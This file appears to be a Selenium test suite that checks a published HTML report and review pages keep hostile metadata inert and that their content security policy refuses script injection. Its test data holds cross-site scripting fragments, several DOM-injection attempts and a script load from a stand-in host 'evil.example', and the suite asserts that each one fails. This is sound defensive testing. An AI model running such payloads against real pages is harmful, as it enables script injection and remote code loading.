"""Hostile keys and metadata are text: in a real browser nothing of them runs, loads or leaves."""

from __future__ import annotations

import pytest
from selenium.webdriver.common.by import By

from tests.browser.pages import open_review, press, settle, silent
from tests.publish.publish_archive import MARK

pytestmark = pytest.mark.slow

RAN = f"""return [
    typeof window.{MARK}, document.title.includes("{MARK}"), document.querySelectorAll("script:not([src])").length
]"""


def test_nothing_runs_in_the_report(browser, published) -> None:
    browser.get((published.folder / "report.html").as_uri())
    assert browser.execute_script(RAN) == ["undefined", False, 0]
    assert "<img src=x onerror=" in browser.find_element(By.TAG_NAME, "body").text
    assert silent(browser) == []


def test_nothing_runs_in_the_review_pages(browser, published) -> None:
    open_review(browser, published)
    seen = ""
    for _ in range(40):
        seen += browser.find_element(By.TAG_NAME, "main").text
        press(browser, "j")
        settle(browser)
    assert browser.execute_script(RAN) == ["undefined", False, 0]
    assert "<img src=x onerror=" in seen
    assert "</script><script>" in seen
    assert "U+202E" in seen
    assert silent(browser) == []


def test_the_policy_refuses_what_would_run(browser, published) -> None:
    """The pages' own texts are safe; the policy would stop a mistake in them too."""
    open_review(browser, published)
    tries = (
        "document.getElementById('undo').setAttribute('onclick', 'window.pwned = 1')",
        "document.body.innerHTML = '<b>x</b>'",
        "const s = document.createElement('script'); s.textContent = 'window.pwned = 2'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "window.setTimeout('window.pwned = 3')",
    )
    for attempt in tries:
        refused = browser.execute_script(f"try {{ {attempt}; return 'done' }} catch (error) {{ return error.name }}")
        assert refused in ("TypeError", "EvalError"), attempt
    assert browser.execute_script(f"return window.{MARK}") is None


def test_only_data_files_of_the_pages_can_be_loaded(browser, published) -> None:
    open_review(browser, published)
    errors = browser.execute_async_script(
        """const done = arguments[0];
        const tries = ["https://evil.example/x.js", "data/../../x.js", "data/items-1.js"].map((url) => {
          try { trustedTypes.createPolicy("other", { createScriptURL: (u) => u }).createScriptURL(url); return "made"; }
          catch (error) { return error.name; }
        });
        done(tries);"""
    )
    assert errors == ["TypeError"] * 3
